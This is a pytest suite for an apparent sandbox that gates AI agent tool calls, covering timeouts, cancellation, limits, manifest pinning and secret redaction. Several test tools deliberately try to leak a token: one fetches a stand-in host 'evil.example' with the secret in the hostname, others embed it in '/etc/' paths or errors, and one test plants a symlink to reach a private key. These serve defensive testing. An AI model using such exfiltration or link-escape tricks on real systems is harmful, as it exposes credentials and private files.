"""The path of a call where time, cancels, links or secrets matter. The rest is in cases/calls.yaml."""

import asyncio
import contextlib
import json
import os
import threading
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from guard.gates import call, gate, policy
from guard.tools import add, fail, pure, read, read_env, rewrite
from licet import Backends, Context, Gate, Refused, SyncContext, load_manifest, tool
from licet.backends.approvals.terminal import MemoryApprover
from licet.backends.memory import MemoryLedger

REFUSED_INPUT = {
    "no data": ({"a": object()}, "expected arguments that JSON can carry"),
    "huge": ({"a": 1, "b": "x" * (2 << 20)}, "expected at most"),
}


@pytest.mark.parametrize(("given", "said"), REFUSED_INPUT.values(), ids=REFUSED_INPUT)
def test_arguments_that_are_no_data_or_huge_are_refused(tmp_path: Path, given: Any, said: str) -> None:
    result = call(gate(tmp_path, add), "add", given)
    assert (result.ok, result.code, result.reason) == (False, "input_invalid", "INPUT_INVALID")
    assert said in result.error
    assert "\n" not in result.error


def test_the_tool_gets_what_was_validated_and_not_what_the_caller_changes(tmp_path: Path) -> None:
    given: dict[str, Any] = {"items": [1]}

    @pure
    async def total(items: list[int]) -> int:
        given["items"].append(100)
        return sum(items)

    assert call(gate(tmp_path, total), "total", given).value == 1


def test_a_pinned_gate_takes_no_other_manifest(tmp_path: Path) -> None:
    first = policy(tmp_path, read_env, env=["A"])
    at = Gate(first, [read_env], Backends.memory(environ={"A": "1"}), workdir=tmp_path, pin=first.digest)
    second = policy(tmp_path, read_env, env=["A", "B"])
    with pytest.raises(Refused, match="MANIFEST_CHANGED") as refusal:
        at.reload(second)
    assert second.digest in refusal.value.explain()
    assert call(at, "read_env", {"name": "A"}).ok
    with pytest.raises(Refused, match="MANIFEST_CHANGED"):
        Gate(second, [read_env], workdir=tmp_path, pin=first.digest)


def test_results_come_in_order_and_one_failure_is_one_failure(tmp_path: Path) -> None:
    at = gate(tmp_path, add, fail)

    async def scenario() -> list[Any]:
        async with at.session("many") as session:
            calls: list[Any] = [("add", {"a": n}) for n in range(200)]
            calls[50] = ("fail", {"kind": "error"})
            calls[51] = ("add", {"a": "x"})
            return [result.value if result.ok else result.code for result in await session.call_many(calls)]

    expected: list[Any] = [n + 1 for n in range(200)]
    expected[50], expected[51] = "execution_failed", "input_invalid"
    assert asyncio.run(scenario()) == expected


def test_only_so_many_calls_run_at_once(tmp_path: Path) -> None:
    running, most = 0, 0

    @pure
    async def count() -> None:
        nonlocal running, most
        running += 1
        most = max(most, running)
        await asyncio.sleep(0.001)
        running -= 1

    async def scenario() -> None:
        async with gate(tmp_path, count).session("many") as session:
            await session.call_many([("count", None)] * 40, at_once=7)

    asyncio.run(scenario())
    assert most == 7


def cancel(at: Gate, begun: asyncio.Event) -> None:
    """Call `wait`, and end that from outside once it has begun."""

    async def scenario() -> None:
        async with at.session("s") as session:
            task = asyncio.create_task(session.call("wait"))
            await begun.wait()
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task

    asyncio.run(scenario())


def test_cancelling_the_caller_cancels_the_call_and_what_it_waits_for(tmp_path: Path) -> None:
    ended: list[str] = []
    ledger, begun = MemoryLedger(), asyncio.Event()

    @pure
    async def wait() -> None:
        begun.set()
        try:
            await asyncio.sleep(60)
        except asyncio.CancelledError:
            ended.append("cancelled")
            raise

    cancel(gate(tmp_path, wait, backends=Backends.memory(ledger=ledger)), begun)
    assert ended == ["cancelled"]
    assert [entry.kind for entry in ledger.entries] == ["decision", "receipt"]


@pytest.mark.parametrize("asking", [False, True], ids=["in the tool", "while a person is asked"])
def test_a_receipt_says_of_a_call_that_its_caller_ended_that_it_was_interrupted(tmp_path: Path, asking: bool) -> None:
    ledger, begun = MemoryLedger(), asyncio.Event()

    async def wait_for_ever(*_: Any) -> Any:
        begun.set()
        await asyncio.sleep(600)

    @tool(needs=["fs:write:${workdir}"], effect="write_limited", sandbox="native")
    async def wait() -> None:
        await wait_for_ever()

    backends = Backends.memory(ledger=ledger, approver=wait_for_ever)
    approvals = {"write": "session" if asking else "manifest"}
    at = gate(tmp_path, wait, backends=backends, approvals=approvals, fs_reach={"write": ["${workdir}"]})

    cancel(at, begun)
    receipt = json.loads(ledger.rows[-1].body)
    assert receipt["reason"] == ("INTERRUPTED" if asking else "TOOL_FAILED")
    assert receipt["rules"] == ["the call was interrupted before it ended"]


def test_a_tool_that_swallows_its_cancellation_is_cancelled_again(tmp_path: Path) -> None:
    swallowed = []

    @pure
    async def stubborn() -> str:
        for number in range(3):
            try:
                await asyncio.Event().wait()
            except asyncio.CancelledError:
                swallowed.append(number)
        return "got away"

    result = call(gate(tmp_path, stubborn, limits={"wall_seconds": 1}), "stubborn")
    assert (result.code, result.value, swallowed) == ("timed_out", None, [0, 1, 2])


def test_a_gate_without_a_clock_is_refused_before_any_call(tmp_path: Path) -> None:
    with pytest.raises(RuntimeError, match="needs a clock"):
        gate(tmp_path, add, backends=Backends.memory(clock=None))


def test_a_function_that_blocks_for_ever_ends_only_its_own_call(tmp_path: Path) -> None:
    go_on, over = threading.Event(), threading.Event()

    @pure
    def stuck() -> None:
        go_on.wait(60)
        over.set()

    at = gate(tmp_path, stuck, add, limits={"wall_seconds": 1})

    async def scenario() -> tuple[str, bool, bool]:
        async with at.session("s") as session:
            late, fine = await asyncio.gather(session.call("stuck"), session.call("add", {"a": 1}))
        ended = over.is_set()
        go_on.set()
        return late.code, fine.ok, ended

    assert asyncio.run(scenario()) == ("timed_out", True, False)


def test_a_long_result_is_cut_and_keeps_its_metadata(tmp_path: Path) -> None:
    @tool(needs=[], effect="read_only", sandbox="native", cost_usd="0.25")
    async def talk(kind: str) -> Any:
        return "ä" * 4000 if kind == "text" else [["x" * 10] * 1000]

    at = gate(tmp_path, talk, limits={"output_kb": 1})
    for kind in ("text", "list"):
        result = call(at, "talk", {"kind": kind})
        assert result.ok
        assert result.truncated
        assert isinstance(result.value, str)
        assert 1000 < len(result.value.encode()) <= 1024
        assert result.cost_usd == Decimal("0.25")
        assert result.receipt


def test_a_result_is_a_copy_of_the_data_that_the_tool_returned(tmp_path: Path) -> None:
    shared = {"n": [1]}

    @pure
    async def give() -> Any:
        return shared

    result = call(gate(tmp_path, give), "give")
    shared["n"].append(2)
    assert result.value == {"n": [1]}
    with pytest.raises(AttributeError):
        result.value = "other"  # type: ignore[misc]


def test_a_handle_that_outlives_its_call_refuses(tmp_path: Path) -> None:
    kept: list[Context] = []

    @tool(needs=["env:read:*"], effect="read_only", sandbox="native")
    async def leak(ctx: Context) -> None:
        kept.append(ctx)

    assert call(gate(tmp_path, leak, backends=Backends.memory(environ={"A": "1"}), env=["A"]), "leak").ok
    with pytest.raises(Refused, match="SESSION_ENDED"):
        kept[0].env.get("A")


class Broken:
    """A backend whose every method fails."""

    def __getattr__(self, name: str) -> Callable[..., Any]:
        def fail(*_: object, **__: object) -> Any:
            raise OSError("the part is broken")

        return fail


@pytest.mark.parametrize("part", ["budgets", "approver", "ledger", "sandbox"])
def test_an_error_of_a_backend_refuses_the_call(tmp_path: Path, part: str) -> None:
    ran = []

    @tool(needs=["env:read:*", "fs:write:*"], effect="write_limited", sandbox="native")
    async def act(ctx: Context) -> None:
        ctx.env.get("A")
        ran.append(1)

    parts: dict[str, Any] = {"environ": {"A": "1"}, "approver": MemoryApprover(lambda _: "approved"), part: Broken()}
    backends = Backends.memory(**parts)
    capabilities = {
        "env": ["A"],
        "fs_reach": {"write": [str(tmp_path)]},
        "approvals": {"write": "call"},
        "budget": {"max_calls_per_session": 5},
    }
    try:
        at = gate(tmp_path, act, backends=backends, **capabilities)
    except OSError:
        return  # a sandbox that cannot say what it keeps: there is no gate at all
    result = call(at, "act")
    assert (result.ok, ran) == (False, [])
    assert "the part is broken" not in result.error


def test_availability_sees_only_what_the_tool_declares(tmp_path: Path) -> None:
    seen: list[Any] = []

    def look(here: Any) -> bool:
        seen.append(here.env("A"))
        return bool(here.env("B"))

    def lucky(here: Any) -> bool:
        return here.env("A") == "1" and here.program("git") is None

    @tool(needs=["env:read:A"], effect="read_only", sandbox="native", available=look)
    async def nosy() -> str:
        return "ran"

    @tool(needs=["env:read:A"], effect="read_only", sandbox="native", available=lucky)
    async def modest() -> str:
        return "ran"

    at = gate(tmp_path, nosy, modest, add, backends=Backends.memory(environ={"A": "1", "B": "2"}), env=["A", "B"])
    assert call(at, "nosy").reason == "TOOL_NOT_AVAILABLE"
    assert seen == ["1"]
    assert call(at, "modest").reason == "TOOL_NOT_AVAILABLE"  # a program it did not declare is not looked for

    async def offered() -> list[str]:
        async with at.session("s") as session:
            return await session.available()

    assert asyncio.run(offered()) == ["add"]


SECRET = "s3cr3t-v4lue-9000"


@tool(needs=["secret:read:*", "fs:read:*"], effect="read_only", sandbox="native")
async def spill(ctx: Context, how: str) -> Any:
    """Let a secret out, in some way."""
    value = await ctx.secrets.get("token")
    match how:
        case "result":
            return {"it is": [value]}
        case "long result":
            return "x" * 1015 + value
        case "error":
            raise ValueError(f"bad token\n{value}")
        case "first line of an error":
            raise ValueError(f"bad token {value}")
        case "path":
            return await ctx.fs.read(f"/etc/{value}")
        case "caught path":
            with contextlib.suppress(Refused):
                await ctx.fs.read(f"/etc/{value}")
            return "fine"


@pytest.mark.parametrize("how", ["result", "long result", "error", "first line of an error", "path", "caught path"])
def test_a_secret_that_a_call_has_seen_does_not_leave_it(tmp_path: Path, how: str) -> None:
    seen: list[Any] = []
    ledger = MemoryLedger()

    async def secrets(reference: str) -> str:
        return SECRET

    backends = Backends.memory(secrets=secrets, ledger=ledger)
    allowed = policy(tmp_path, spill, secrets=["token"], fs_reach={"read": ["/srv"]}, limits={"output_kb": 1})
    result = call(Gate(allowed, [spill], backends, workdir=tmp_path, observers=[seen.append]), "spill", {"how": how})
    said = [repr(result), repr(result.value), result.error, result.explain(), repr(result.events), repr(seen)]
    if not result.ok:
        with pytest.raises(Refused) as refusal:
            result.unwrap()
        said += [str(refusal.value), refusal.value.explain(), repr(refusal.value.decision)]
    assert not [text for text in said if SECRET[:8] in text]
    assert result.ok is (how in ("result", "long result", "caught path"))


def test_a_granted_directory_that_becomes_a_link_after_the_gate_was_built_is_not_followed(tmp_path: Path) -> None:
    for name in ("out", "elsewhere"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "secret.txt").write_text(name)
    backends = Backends.local(tmp_path / "state")
    at = gate(tmp_path, read, backends=backends, fs_reach={"read": [f"{tmp_path}/out"]})
    given = {"path": f"{tmp_path}/out/secret.txt"}
    assert call(at, "read", given).value == "out"
    (tmp_path / "out").rename(tmp_path / "moved")
    (tmp_path / "out").symlink_to(tmp_path / "elsewhere")
    assert call(at, "read", given).reason == "PATH_NOT_REACHABLE"


def test_no_grant_reaches_the_state_of_the_backends(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "other").write_text("entries")
    reach = {"read": [str(tmp_path)], "write": [str(tmp_path)]}
    at = gate(tmp_path, read, rewrite, backends=Backends.local(tmp_path / "state"), fs_reach=reach)
    for name in ("read", "rewrite"):
        assert call(at, name, {"path": f"{tmp_path}/state/other"}).reason == "PATH_NOT_REACHABLE"
    assert (tmp_path / "state" / "other").read_text() == "entries"
    assert call(at, "rewrite", {"path": f"{tmp_path}/other"}).ok


def test_a_session_whose_store_cannot_be_read_takes_no_calls(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "kv.sqlite").write_text("no database")
    (tmp_path / "state" / "kv.sqlite").chmod(0o600)
    result = call(gate(tmp_path, add, backends=Backends.local(tmp_path / "state")), "add", {"a": 1})
    assert (result.code, result.reason) == ("not_available", "BACKEND_MISSING")
    assert "kv.sqlite" not in result.error
    assert "kv.sqlite" in result.explain()


LIMITED = """\
agent: tester
bundles: {{b: {{tools: [fail]{bundle}}}}}
capabilities:
  bundles: [b]
  native: [fail]
  tools:
    fail: {{{tool}}}
  limits:
    memory_mb: 256{agent}
"""
STATED: dict[str, tuple[dict[str, str], str]] = {
    # where the file says how long is too long, and where that is told
    "the agent": (
        {"agent": "\n    wall_seconds: 1"},
        "raise `limits.wall_seconds` under `capabilities` (agent.yaml:10)",
    ),
    "the tool": (
        {"agent": "\n    wall_seconds: 9", "tool": "limits: {wall_seconds: 1}"},
        "raise `limits.wall_seconds` of `fail` (agent.yaml:7)",
    ),
    "the bundle": (
        {"bundle": ", limits: {wall_seconds: 1}"},
        "raise `limits.wall_seconds` of the bundle `b` (agent.yaml:2)",
    ),
}


def test_a_refusal_by_a_limit_names_the_line_that_states_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    gates = []
    for stated, _ in STATED.values():
        Path("agent.yaml").write_text(LIMITED.format_map({"agent": "", "tool": "", "bundle": "", **stated}))
        gates.append(Gate(load_manifest("agent.yaml"), [fail], Backends.memory()))

    async def told(at: Gate) -> str:
        async with at.session("s") as session:
            return (await session.call("fail", {"kind": "slow"})).explain()

    async def all_told() -> list[str]:
        return await asyncio.gather(*map(told, gates))

    for (_, fix), text in zip(STATED.values(), asyncio.run(all_told()), strict=True):
        assert text.splitlines()[0] == "timed out: `fail` was stopped"
        assert fix in text
        assert f"seconds ({fix[fix.index('agent.yaml') : -1]})" in text


def test_a_limit_of_a_personality_is_named_with_its_key_in_that_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("agent.yaml").write_text(LIMITED.format(agent="\n    wall_seconds: 9", tool="", bundle=""))
    Path("mind.yaml").write_text("id: mind\ntoolset: [fail]\nnative: [fail]\nlimits: {wall_seconds: 1}\n")
    at = Gate(load_manifest("agent.yaml", personality="mind.yaml"), [fail], Backends.memory())
    assert "  raise `limits.wall_seconds` (mind.yaml:4)" in call(at, "fail", {"kind": "slow"}).explain()


def test_explain_of_a_tool_that_ran_does_not_say_that_it_was_not_called(tmp_path: Path) -> None:
    at = gate(tmp_path, read, backends=Backends.local(tmp_path / "state"), fs_reach={"read": ["${workdir}"]})
    (tmp_path / "large").write_bytes(b"")
    os.truncate(tmp_path / "large", 1 << 30)
    heads = {path: call(at, "read", {"path": path}).explain().splitlines()[0] for path in ("a\0b", "large")}
    assert heads["a\0b"] == "failed: `read` was refused something while it ran"
    assert heads["large"] == f"ended: `read` ran into a limit with fs:read:{tmp_path}/large"


def test_invalid_arguments_of_a_gate_are_refused_when_it_is_built(tmp_path: Path) -> None:
    async def watch(event: Any) -> None: ...

    fine = policy(tmp_path, add)
    wrong: list[tuple[Callable[[], Any], str]] = [
        (lambda: Gate("agent.yaml"), "load_manifest"),  # type: ignore[arg-type]
        (lambda: Gate({"agent": "a"}), "Manifest.from_data"),  # type: ignore[arg-type]
        (lambda: Gate(fine, add), r"Gate\(manifest, \[add\]\)"),  # type: ignore[arg-type]
        (lambda: Backends.local(tmp_path, secretz={}), "`secretz` is no part"),  # type: ignore[call-arg]
        (lambda: Backends.memory(file={}), "`file` is no part of backends; exp"),  # type: ignore[call-arg]
        (lambda: Gate(fine, [print]), "@tool"),  # type: ignore[list-item]
        (lambda: Gate(fine, [add], observers=[watch]), "plain function"),  # type: ignore[list-item]
        (lambda: Gate(fine, [add], on_misfit="ignore"), "refuse"),  # type: ignore[arg-type]
    ]
    for make, said in wrong:
        with pytest.raises((TypeError, ValueError), match=said):
            make()


def test_nothing_that_is_printed_shows_the_environment(tmp_path: Path) -> None:
    backends = Backends.memory(environ={"KEY": "sk-live-123"}, secrets={"token": "t0ken-v4lue"})
    at = gate(tmp_path, add, backends=backends)
    said = repr(backends) + repr(at) + repr(at.session("s"))
    assert "sk-live-123" not in said
    assert "t0ken" not in said
    assert "environ=dict" in repr(backends)


def test_call_many_refuses_a_malformed_batch_before_any_call(tmp_path: Path) -> None:
    async def run() -> None:
        async with gate(tmp_path, add).session("s") as session:
            await session.call_many(["add"])  # type: ignore[list-item]

    with pytest.raises(TypeError, match="pairs"):
        asyncio.run(run())


class Careless(Exception):
    """An error whose `__str__` fails."""

    def __str__(self) -> str:
        return self.missing  # type: ignore[attr-defined,no-any-return]


@pytest.mark.parametrize(
    "error", [Careless(), GeneratorExit(), BaseExceptionGroup("g", [KeyError("x")]), BaseException()]
)
def test_no_error_of_a_tool_escapes_its_call(tmp_path: Path, error: BaseException) -> None:
    kept: list[Context] = []
    ledger = MemoryLedger()

    @tool(needs=["env:read:*"], effect="read_only", sandbox="native")
    async def bad(ctx: Context) -> None:
        kept.append(ctx)
        raise error

    at = gate(tmp_path, bad, backends=Backends.memory(environ={"A": "1"}, ledger=ledger), env=["A"])
    assert call(at, "bad").code == "execution_failed"
    assert [entry.kind for entry in ledger.entries] == ["decision", "receipt"]
    with pytest.raises(Refused):
        kept[0].env.get("A")


@pytest.mark.parametrize("name", [None, 5, ["add"], b"add"])
def test_a_name_that_is_no_text_is_an_unknown_tool_at_any_time(tmp_path: Path, name: Any) -> None:
    at = gate(tmp_path, add)
    assert call(at, name).reason == "UNKNOWN_TOOL"
    at.freeze()
    assert call(at, name).reason == "FROZEN"


def test_an_ended_session_is_ended_without_being_entered(tmp_path: Path) -> None:
    backends = Backends.memory()

    async def run() -> str:
        async with gate(tmp_path, add, backends=backends).session("s") as session:
            await session.end()
        return (await gate(tmp_path, add, backends=backends).session("s").call("add", {"a": 1})).reason

    assert asyncio.run(run()) == "SESSION_ENDED"


def test_a_narrower_grant_does_not_make_a_planted_link_reachable(tmp_path: Path) -> None:
    (tmp_path / "repos" / "evil").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "key").write_text("PRIVATE")
    at = gate(tmp_path, read, backends=Backends.local(tmp_path / "state"), fs_reach={"read": [f"{tmp_path}/repos"]})
    (tmp_path / "repos" / "evil" / "docs").symlink_to(tmp_path / "outside")
    given = {"path": f"{tmp_path}/repos/evil/docs/key"}

    async def run() -> list[str]:
        async with at.session("s") as session:
            child = session.delegate(agent="helper", allow=[f"fs:read:{tmp_path}/repos/evil/docs"])
            told = [(await session.call("read", given)).reason, (await child.call("read", given)).reason]
            at.reload(policy(tmp_path, read, fs_reach={"read": [f"{tmp_path}/repos/evil/docs"]}))
            return [*told, (await session.call("read", given)).reason]

    assert asyncio.run(run()) == ["PATH_NOT_REACHABLE"] * 3


@tool(needs=["secret:read:*", "network:*:*", "fs:read:*", "env:read:*"], effect="read_only", sandbox="native")
async def blunder(ctx: Context, how: str) -> Any:
    """Put a secret where it makes no use at all."""
    value = await ctx.secrets.get("token")
    match how:
        case "url":
            return await ctx.fetch(f"https://a.example/?key={value}\n")
        case "no scheme":
            return await ctx.fetch(f"a.example/?key={value}")
        case "host":
            return await ctx.fetch(f"https://{value.upper()}.evil.example/")
        case "path":
            return await ctx.fs.read(f"{value}\0")
        case "long path":  # cut anywhere, it would end in a part of the secret that nobody knows any more
            return await ctx.fs.read(f"/srv/{'x' * 65}{value}\0")
        case "env":
            return ctx.env.get(f"{value} ")
        case "reference":
            return await ctx.secrets.get(f"{value} ")


@pytest.mark.parametrize("how", ["url", "no scheme", "host", "path", "long path", "env", "reference"])
def test_a_secret_in_a_malformed_use_is_redacted(tmp_path: Path, how: str) -> None:
    ledger = MemoryLedger()
    backends = Backends.memory(secrets={"token": SECRET}, ledger=ledger)
    reach = {
        "secrets": ["token"],
        "destinations": {"allow": ["a.example"]},
        "fs_reach": {"read": ["/srv"]},
        "env": ["A"],
    }
    result = call(gate(tmp_path, blunder, backends=backends, **reach), "blunder", {"how": how})
    assert not result.ok
    with pytest.raises(Refused) as refusal:
        result.unwrap()
    said = [result.error, result.explain(), repr(result), repr(result.events), refusal.value.explain()]
    said += [str(entry) for entry in ledger.entries]
    assert not [text for text in said if SECRET[:9] in text.lower()]


def test_pending_requests_of_a_sync_tool_are_cancelled_with_its_call(tmp_path: Path) -> None:
    ended: list[str] = []

    async def slow(reference: str) -> str:
        try:
            await asyncio.sleep(60)
        finally:
            ended.append(reference)
        return "value"

    @tool(needs=["secret:read:*"], effect="read_only", sandbox="native")
    def wait(ctx: SyncContext) -> str:
        return str(ctx.secrets.get("token"))

    at = gate(tmp_path, wait, backends=Backends.memory(secrets=slow), secrets=["token"], limits={"wall_seconds": 1})

    async def run() -> str:
        async with at.session("s") as session:
            code = (await session.call("wait")).code
            async with asyncio.timeout(30):
                while not ended:
                    await asyncio.sleep(0.01)
            return code

    assert (asyncio.run(run()), ended) == ("timed_out", ["token"])


def test_another_store_works_in_a_sync_tool_too(tmp_path: Path) -> None:
    @tool(needs=["storage:*:session", "storage:*:tool-private"], effect="read_only", sandbox="native")
    def keep(ctx: SyncContext) -> Any:
        ctx.kv.of("session").set("k", 5)
        return [ctx.kv.of("session").get("k"), ctx.kv.get("k")]

    assert call(gate(tmp_path, keep), "keep").value == [5, None]
